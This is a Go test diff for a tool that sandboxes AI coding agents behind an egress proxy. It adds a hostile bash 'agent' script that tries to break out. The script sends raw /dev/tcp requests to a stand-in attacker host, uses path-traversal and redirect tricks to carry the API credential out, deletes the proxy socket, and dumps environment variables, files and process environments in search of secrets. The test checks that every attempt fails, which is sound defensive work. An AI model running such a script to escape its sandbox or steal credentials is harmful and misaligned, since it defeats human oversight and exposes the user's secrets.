@@ -191,6 +191,23 @@ func TestHostLoginInLoops(t *testing.T) {
 				checkSandbox(t, d, repo, "c", r.Stdout+r.Stderr, envs)
 			})
 
+			// With no network at all, the model API through the proxy
+			// is still there: the agent's only way out.
+			t.Run("claude with sandbox.network none", func(t *testing.T) {
+				up := newStandIn(t, "n")
+				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+				gittest.Git(t, repo, "config", "loop.agent", claude)
+				gittest.Git(t, repo, "config", "loop.sandbox.network", "none")
+				defer gittest.Git(t, repo, "config", "--unset", "loop.sandbox.network")
+				cmdtest.MustRun(t, repo, "new", "n", "--driver", d.Name, "--detach")
+				r := cmdtest.Run(t, repo, "run", "n", "say hello")
+				if !strings.Contains(r.Stdout, standInReply) {
+					t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+				}
+				_, _, envs := up.seen()
+				checkSandbox(t, d, repo, "n", r.Stdout+r.Stderr, envs)
+			})
+
 			t.Run("codex", func(t *testing.T) {
 				up := newStandIn(t, "x")
 				t.Setenv("OPENAI_BASE_URL", up.URL+"/v1")
@@ -283,4 +300,108 @@ func TestDoctorLogin(t *testing.T) {
 		t.Errorf("doctor with a login:\n%s", out)
 	}
 	noSecret(t, "doctor", out)
+}
+
+// hostileAgent is an "agent" named claude (so git loop lends it the
+// host's login) that attacks the egress proxy from inside the sandbox
+// and prints everything it could see: its env, its files, the proxy's
+// answers. ATTACKER is replaced with the attacker's host:port.
+const hostileAgent = `#!/bin/bash
+port=${ANTHROPIC_BASE_URL##*:}
+req() {
+  exec 3<>/dev/tcp/127.0.0.1/$port || { echo "connect failed"; return; }
+  printf '%s\r\nHost: %s\r\nAuthorization: Bearer stolen?\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' "$1" "$2" >&3
+  echo "== $1 (Host $2)"; head -c 4000 <&3 | tr -d '\r'; echo
+  exec 3<&-
+}
+req "POST http://$ATTACKER/v1/messages HTTP/1.1" "$ATTACKER"
+req "CONNECT $ATTACKER HTTP/1.1" "$ATTACKER"
+req "POST /v1/messages HTTP/1.1" "$ATTACKER"
+req "POST /api/oauth/claude_cli/create_api_key HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/../../api/oauth/profile HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/%2e%2e/%2e%2e/api/oauth/profile HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/redirect HTTP/1.1" 127.0.0.1
+egress=$(dirname "$(dirname "$(dirname "$GIT_LOOP_AGENT_DIR")")")/host/$GIT_LOOP_NAME/egress
+echo "== egress dir $egress"; ls -la "$egress"
+rm -f "$egress/proxy.sock" 2>/dev/null && [ ! -e "$egress/proxy.sock" ] && echo "REMOVED the proxy's socket"
+touch "$egress/planted" 2>/dev/null && echo "PLANTED a file beside the socket"
+echo "== env"; env
+echo "== files"; for f in $(find "$HOME" "$GIT_LOOP_AGENT_DIR" -type f 2>/dev/null); do echo "-- $f"; head -c 20000 "$f"; echo; done
+echo "== processes"; for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; tr '\0' '\n' < $p/environ 2>/dev/null; done
+echo hostile-agent-done
+`
+
+// TestHostileAgentAndProxy: an agent holding the proxy cannot make it
+// reach anything but the model API, cannot make it carry the credential
+// elsewhere, and finds the credential nowhere it can read.
+func TestHostileAgentAndProxy(t *testing.T) {
+	for _, d := range cmdtest.Drivers {
+		t.Run(d.Name, func(t *testing.T) {
+			repo := gittest.Repo(t)
+			d.Prepare(t, repo)
+			t.Cleanup(func() {
+				ws, _ := os.ReadFile(filepath.Join(repo, ".git", "loop", "id"))
+				cmdtest.Run(t, repo, "uninstall", "--yes", "--force")
+				if api, err := dockertest.DialAPI(); err == nil && len(ws) > 0 {
+					api.RemoveLabelled(sandbox.LabelWorkspace, strings.TrimSpace(string(ws)))
+					api.Close()
+				}
+			})
+			t.Setenv("HOME", fakeHome(t))
+			attacker := newStandIn(t, "nobody")
+			up := newStandIn(t, "h")
+			up.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				if r.URL.Path == "/v1/messages/redirect" {
+					up.mu.Lock()
+					up.auth = append(up.auth, r.Header.Get("Authorization")+"|"+r.Header.Get("X-Api-Key"))
+					up.paths = append(up.paths, r.Method+" "+r.URL.Path)
+					up.mu.Unlock()
+					http.Redirect(w, r, attacker.URL+"/steal", http.StatusTemporaryRedirect)
+					return
+				}
+				up.serve(w, r)
+			})
+			t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+			bin := filepath.Join(t.TempDir(), "claude")
+			script := strings.ReplaceAll(hostileAgent, "$ATTACKER", strings.TrimPrefix(attacker.URL, "http://"))
+			if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			gittest.Git(t, repo, "config", "loop.agent", bin)
+			cmdtest.MustRun(t, repo, "new", "h", "--driver", d.Name, "--detach")
+			r := cmdtest.RunWith(t, repo, cmdtest.Options{Env: map[string]string{}}, "run", "h", "go")
+			out := r.Stdout + r.Stderr
+			i := strings.Index(out, "== env")
+			t.Logf("the hostile agent in %s:\n%s", d.Name, out[:max(i, 0)])
+			if !strings.Contains(out, "hostile-agent-done") {
+				t.Fatalf("the hostile agent did not finish: exit %d\n%s", r.Code, out)
+			}
+			noSecret(t, "what the hostile agent saw", out)
+			for _, bad := range []string{"REMOVED the proxy's socket", "PLANTED a file"} {
+				if strings.Contains(out, bad) {
+					t.Errorf("the agent %s", bad)
+				}
+			}
+			if n := strings.Count(out, "HTTP/1.1 403"); n < 4 {
+				t.Errorf("%d requests refused, want the absolute URL, the other paths and both dot-segment forms:\n%s", n, out)
+			}
+			if _, paths, _ := attacker.seen(); len(paths) != 0 {
+				t.Errorf("the attacker's server got %v", paths)
+			}
+			auth, paths, _ := up.seen()
+			for _, p := range paths {
+				if p != "POST /v1/messages" && p != "POST /v1/messages/redirect" {
+					t.Errorf("the API got %s", p)
+				}
+			}
+			for _, a := range auth {
+				if a != "Bearer "+claudeAccess+"|" {
+					t.Errorf("the API got credentials %q", a)
+				}
+			}
+			if len(paths) != 2 {
+				t.Errorf("the API got %v, want the Host-header request and the redirect", paths)
+			}
+		})
+	}
 }
